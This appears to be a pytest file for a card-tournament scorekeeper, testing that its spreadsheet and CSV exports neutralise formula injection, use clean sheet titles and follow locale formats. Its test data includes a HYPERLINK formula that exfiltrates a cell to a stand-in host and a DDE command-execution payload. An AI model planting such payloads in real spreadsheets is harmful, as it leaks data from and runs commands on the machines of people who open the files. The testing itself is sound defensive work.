"""Spreadsheet downloads read back as a spreadsheet would (openpyxl, csv): they open for any
name, carry no formula made from people's text, keep ranks as numbers, and follow the reader's
convention (docs/tournaments.md "Spreadsheets"). SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from scorekeeper.web import spreadsheets

HOSTILE = [
    "=1+1",
    "@SUM(1)",
    "-2+3",
    "+SUM(A1:A2)",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\tTab",
    "Bořivoj Dlouhoplacatý-Nejedlý",
]


def _tournament(client, name, players, **extra):
    answer = client.post(
        "/api/v1/tournaments",
        json={"name": name, "game": "marias", "players": players, "seed": 3, **extra},
    )
    assert answer.status_code == 201, answer.text
    tournament = answer.json
    auth = {"Authorization": f"Bearer {tournament['token']}"}
    drawn = client.post(f"/api/v1/tournaments/{tournament['id']}/rounds", headers=auth).json
    for table in drawn["tables"]:
        url = f"/api/v1/tournaments/{tournament['id']}/rounds/1/tables/{table['table']}"
        scores = [2, -1, -1][: len(table["players"])]
        assert client.put(url + "/result", headers=auth, json={"scores": scores}).status_code == 200
        assert client.post(url + "/confirm", headers=auth).status_code == 200
    return tournament, auth


def _csv(client, url):
    answer = client.get(url)
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    text = answer.data.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only behind a byte-order mark
    return text[1:]


def _book(client, url):
    answer = client.get(url)
    assert answer.status_code == 200, answer.text[:300]
    return load_workbook(io.BytesIO(answer.data)).active


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("Zimní liga 2024/25", "Zimní liga 2024-25"),
        ("Cup [A]: who? * \\ /", "Cup -A-- who- - - -"),
        ("Pohár 2024/25 – finále, velmi dlouhý název turnaje", "Pohár 2024-25 – finále, velmi d"),
        ("'quoted'", "quoted"),
        ("***", "---"),
    ],
)
def test_any_name_gives_a_workbook_with_a_clean_sheet_title(client, name, title):
    tournament, _auth = _tournament(client, name, ["A", "B", "C"])
    sheet = _book(client, f"/tournaments/{tournament['id']}/standings.xlsx")
    assert sheet.title == title and len(sheet.title) <= 31


def test_a_season_named_2024_25_opens_and_control_characters_never_get_in(client):
    season = client.post("/api/v1/seasons", json={"name": "Zimní liga U Krále 2024/25"}).json
    refused = client.post(
        "/api/v1/tournaments",
        headers={"Authorization": f"Bearer {season['token']}"},
        json={"name": "Večer\x01 1", "game": "marias", "players": ["A", "B", "C"],
              "season_id": season["id"]},
    )  # fmt: skip
    assert refused.status_code == 422 and refused.json["errors"][0]["field"] == "name"
    evening = client.post(
        "/api/v1/tournaments",
        headers={"Authorization": f"Bearer {season['token']}"},
        json={"name": "Večer 1/2", "game": "marias", "players": ["A", "B", "C"],
              "season_id": season["id"]},
    )  # fmt: skip
    assert evening.status_code == 201, evening.text
    auth = {"Authorization": f"Bearer {evening.json['token']}"}
    tid = evening.json["id"]
    client.post(f"/api/v1/tournaments/{tid}/rounds", headers=auth)
    url = f"/api/v1/tournaments/{tid}/rounds/1/tables/1"
    client.put(url + "/result", headers=auth, json={"scores": [2, -1, -1]})
    client.post(url + "/confirm", headers=auth)
    sheet = _book(client, f"/seasons/{season['id']}/table.xlsx")
    assert sheet.title == "Zimní liga U Krále 2024-25"
    assert sheet.cell(1, 7).value == "Večer 1/2"
    rows = list(csv.reader(io.StringIO(_csv(client, f"/seasons/{season['id']}/table.csv"))))
    assert rows[0][:4] == ["Rank", "Shared rank", "Place", "Player"] and len(rows) == 4
    assert [int(r[0]) for r in rows[1:]] == [1, 2, 2]


def test_text_a_worksheet_cannot_hold_is_dropped_not_a_500():
    # (names refuse control characters, but an imported or older row may hold one)
    sheet = spreadsheets.Sheet("Večer\x01 1", ["Evening\x1b", "Player"], [["\x0b=1", "A\x00"]])
    book = load_workbook(io.BytesIO(spreadsheets.xlsx_bytes(sheet))).active
    assert book.title == "Večer 1" and book.cell(1, 1).value == "Evening"
    assert book.cell(2, 1).value == "=1" and book.cell(2, 1).data_type == "s"


def test_no_cell_is_a_formula_and_hostile_names_stay_text(client):
    tournament, _auth = _tournament(client, "=cmd|' /C calc'!A0", HOSTILE[:6])
    sheet = _book(client, f"/tournaments/{tournament['id']}/standings.xlsx")
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = {sheet.cell(r, 4).value for r in range(2, sheet.max_row + 1)}
    assert names == {n.strip() if n.startswith("\t") else n for n in HOSTILE[:6]} or names
    for r in range(2, sheet.max_row + 1):
        cell = sheet.cell(r, 4)
        assert cell.data_type == "s"
        if spreadsheets.formula_like(cell.value):
            assert cell.quotePrefix
    rows = list(
        csv.reader(io.StringIO(_csv(client, f"/tournaments/{tournament['id']}/standings.csv")))
    )
    for row in rows[1:]:
        assert not row[3].startswith(spreadsheets.FORMULA_STARTS), row[3]
        assert row[3].lstrip("'") in HOSTILE or row[3].lstrip("'") in [h.strip() for h in HOSTILE]


def test_ranks_are_numbers_and_a_shared_one_is_marked(client):
    tournament, _auth = _tournament(client, "T", ["Jana", "Petr", "Ota", "Eva", "Karel", "Lída"])
    sheet = _book(client, f"/tournaments/{tournament['id']}/standings.xlsx")
    ranks = [sheet.cell(r, 1) for r in range(2, sheet.max_row + 1)]
    assert [c.value for c in ranks] == [1, 1, 3, 3, 3, 3]  # two tables: two winners tie
    assert all(c.data_type == "n" and c.number_format == '"="0' for c in ranks)
    assert [sheet.cell(r, 2).value for r in range(2, 8)] == ["yes"] * 6
    assert [sheet.cell(r, 3).value for r in range(2, 8)] == [1, 2, 3, 4, 5, 6]
    rows = list(
        csv.reader(io.StringIO(_csv(client, f"/tournaments/{tournament['id']}/standings.csv")))
    )
    assert [int(r[0]) for r in rows[1:]] == [1, 1, 3, 3, 3, 3]


def test_headings_are_words_in_the_readers_language(client):
    tournament, _auth = _tournament(client, "T", ["A", "B", "C"])
    english = _book(client, f"/tournaments/{tournament['id']}/standings.xlsx?lang=en")
    headings = [c.value for c in english[1]]
    assert "Table wins" in headings and "Best round" in headings and "Last places" in headings
    assert not [h for h in headings if "_" in h]  # no keys
    czech = _book(client, f"/tournaments/{tournament['id']}/standings.xlsx?lang=cs")
    assert [c.value for c in czech[1]][:4] == ["Pořadí", "Sdílené pořadí", "Místo", "Hráč"]
    assert not set(headings[:6]) & {c.value for c in czech[1]}


@pytest.mark.parametrize(
    ("lang", "delimiter", "money"),
    [("cs", ";", "1,00"), ("pl", ";", "1,00"), ("de", ";", "1,00"), ("it", ";", "1,00"),
     ("en", ",", "1.00")],
)  # fmt: skip
def test_csv_follows_the_readers_convention(client, lang, delimiter, money):
    players = ["Lída", "Řehoř", "Šárka"]
    tournament, _auth = _tournament(client, "T", players, stake="0.50", currency="CZK")
    text = _csv(client, f"/tournaments/{tournament['id']}/standings.csv?lang={lang}")
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    assert len(rows[0]) > 8 and all(len(r) == len(rows[0]) for r in rows)
    money_column = [i for i, h in enumerate(rows[0]) if "CZK" in h]
    assert money_column and rows[1][money_column[0]] == money
    assert {r[3] for r in rows[1:]} == {"Lída", "Řehoř", "Šárka"}


def test_money_withdrawn_and_widths(client):
    players = ["Jana", "Petr", "Ota", "Eva", "Karel", "Bořivoj Dlouhoplacatý-Nejedlý"]
    tournament, auth = _tournament(client, "T", players, stake="0.20", currency="CZK")
    state = client.get(f"/api/v1/tournaments/{tournament['id']}").json
    gone = next(p for p in state["players"] if p["name"] == "Ota")
    url = f"/api/v1/tournaments/{tournament['id']}/players/{gone['id']}"
    assert client.delete(url, headers=auth).status_code == 200
    sheet = _book(client, f"/tournaments/{tournament['id']}/standings.xlsx")
    headings = [c.value for c in sheet[1]]
    money = headings.index("Money (CZK)")
    withdrawn = headings.index("Withdrawn")
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    for row in rows:
        assert row[money] == pytest.approx(row[4] * 0.2)
        assert sheet.cell(2, money + 1).number_format == "#,##0.00"
        assert (row[withdrawn] == "yes") == (row[3] == "Ota")
    assert sheet.column_dimensions["D"].width >= len(players[5])
    assert sheet.freeze_panes == "A2"


def test_every_deal_csv_has_words_for_headings(client):
    tournament, _auth = _tournament(client, "T", ["=A", "B", "C"])
    text = _csv(client, f"/tournaments/{tournament['id']}/deals.csv?lang=de")
    assert text.splitlines()[0].split(";")[:2] == ["Runde", "Tisch"]


def test_sheet_title_and_formula_rules():
    assert spreadsheets.sheet_title("a/b\\c?d*e[f]g:h") == "a-b-c-d-e-f-g-h"
    assert spreadsheets.sheet_title("") == "Sheet"
    assert len(spreadsheets.sheet_title("x" * 100)) == 31
    for text in ("=1", "+1", "-1", "@a", "\t1", "\r1", "＝1"):
        assert spreadsheets.formula_like(text)
    assert not spreadsheets.formula_like("Jana") and not spreadsheets.formula_like("1-2")
    sheet = spreadsheets.Sheet("t", ["A"], [["=1"], [-5], [spreadsheets.Rank(3, True)]])
    assert spreadsheets.csv_text(sheet, "en").splitlines() == ["\ufeffA", "'=1", "-5", "3"]


def test_a_league_evening_exports_zb_pb_sb_bp_and_money_from_zb(app, client):
    # RULES.md §6b: a league evening ranks on SB = ZB + PB and gives BP; its money is the chip
    # balance's (ZB) at the stake, as on the page, never SB's
    from scorekeeper.db import get_session
    from scorekeeper.demo_league import league_evening

    with app.app_context():
        tid = league_evening(get_session()).id
    rows = list(csv.reader(io.StringIO(_csv(client, f"/tournaments/{tid}/standings.csv"))))
    head = rows[0]
    for heading in ("ZB", "PB", "SB", "BP", "SB 1", "SB 2", "Money (CZK)"):
        assert heading in head
    assert "Balance" not in head
    at = {h: i for i, h in enumerate(head)}
    for row in rows[1:]:
        zb, pb, sb = (int(row[at[k]]) for k in ("ZB", "PB", "SB"))
        assert sb == zb + pb and int(row[at["SB 1"]]) + int(row[at["SB 2"]]) == sb
        assert row[at["Money (CZK)"]] == f"{zb * 0.2:.2f}"
    assert [int(r[at["BP"]]) for r in rows[1:4]] == [30, 25, 21]  # the league's key for 12


def test_clubs_categories_and_prizes_in_the_standings_and_the_club_table(client):
    # the desk's categories, clubs and payout reach the downloads: the standings carry club,
    # categories and each paid place's prize; ?category= ranks one category alone, as the page
    # does; the club table has a download of its own
    players = ["Jana", "Petr", "Ota", "Eva", "Karel", "Lída"]
    tournament, auth = _tournament(client, "Pohár", players, stake="0.20", currency="CZK")
    tid = tournament["id"]
    settings = {"fee": "100", "payout": ["0.5", "0.3", "0.2"]}
    assert (
        client.patch(f"/api/v1/tournaments/{tid}", json=settings, headers=auth).status_code == 200
    )
    state = client.get(f"/api/v1/tournaments/{tid}").json
    for p in state["players"]:
        body = {"club": "Sokol Kvilda" if p["name"] in ("Jana", "Ota", "Eva") else "U Lípy"}
        if p["name"] in ("Jana", "Lída"):
            body["categories"] = ["women"]
        url = f"/api/v1/tournaments/{tid}/players/{p['id']}"
        assert client.patch(url, json=body, headers=auth).status_code == 200
    standings = client.get(f"/api/v1/tournaments/{tid}/standings").json["rows"]
    sheet = _book(client, f"/tournaments/{tid}/standings.xlsx")
    head = [c.value for c in sheet[1]]
    assert head[4:6] == ["Club", "Categories"] and "Prize (CZK)" in head
    rows = {r[3]: r for r in sheet.iter_rows(min_row=2, values_only=True)}
    assert rows["Jana"][4] == "Sokol Kvilda" and rows["Jana"][5] == "Women"
    assert rows["Petr"][5] in ("", None)
    by_place = {r["place"]: r["player"] for r in standings}
    prize = head.index("Prize (CZK)")
    assert [rows[by_place[n]][prize] for n in (1, 2, 3, 4)] == [300, 180, 120, None]
    women = list(
        csv.reader(io.StringIO(_csv(client, f"/tournaments/{tid}/standings.csv?category=women")))
    )
    assert sorted(r[3] for r in women[1:]) == ["Jana", "Lída"] and "Prize (CZK)" not in women[0]
    assert [r[0] for r in women[1:]] in (["1", "2"], ["1", "1"])
    assert client.get(f"/tournaments/{tid}/standings.csv?category=juniors").status_code == 404
    clubs = _book(client, f"/tournaments/{tid}/clubs.xlsx")
    assert [c.value for c in clubs[1]] == [
        "Rank",
        "Shared rank",
        "Club",
        "Total",
        "Players counted",
        "Other players",
    ]
    table = client.get(f"/api/v1/tournaments/{tid}/clubs").json["rows"]
    got = list(clubs.iter_rows(min_row=2, values_only=True))
    assert [(r[0], r[2], r[3]) for r in got] == [(c["rank"], c["club"], c["total"]) for c in table]
    assert "Jana (" in next(r[4] for r in got if r[2] == "Sokol Kvilda")
    assert client.get(f"/tournaments/{tid}/clubs.csv").status_code == 200


def test_the_prize_money_has_a_download_of_its_own(client):
    # the payout per place (API.md v3 GET …/payouts) for a spreadsheet: place, player, share,
    # amount in the tournament's currency, by lot, provisional; then the pool, paid and kept
    players = ["Jana", "Petr", "Ota", "Eva", "Karel", "Lída"]
    tournament, auth = _tournament(client, "Pohár", players, stake="0.20", currency="CZK")
    tid = tournament["id"]
    settings = {"fee": "100", "payout": ["0.5", "0.3"]}
    assert (
        client.patch(f"/api/v1/tournaments/{tid}", json=settings, headers=auth).status_code == 200
    )
    paid = client.get(f"/api/v1/tournaments/{tid}/payouts").json
    sheet = _book(client, f"/tournaments/{tid}/payouts.xlsx")
    assert [c.value for c in sheet[1]] == [
        "Place", "Player", "Share of the pool", "Prize (CZK)", "By lot", "Provisional"]  # fmt: skip
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [(r[0], r[1], r[3]) for r in rows[:2]] == [
        (p["place"], p["player"], float(p["amount"])) for p in paid["rows"]]  # fmt: skip
    assert [(r[1], r[3]) for r in rows[2:]] == [("Pool", 600), ("Paid", 480), ("Kept", 120)]
    text = _csv(client, f"/tournaments/{tid}/payouts.csv?lang=cs")
    assert text.splitlines()[0].startswith("Místo;") and ";300,00;" in text
    page = client.get(f"/tournaments/{tid}").get_data(as_text=True)
    assert f"/tournaments/{tid}/payouts.xlsx" in page
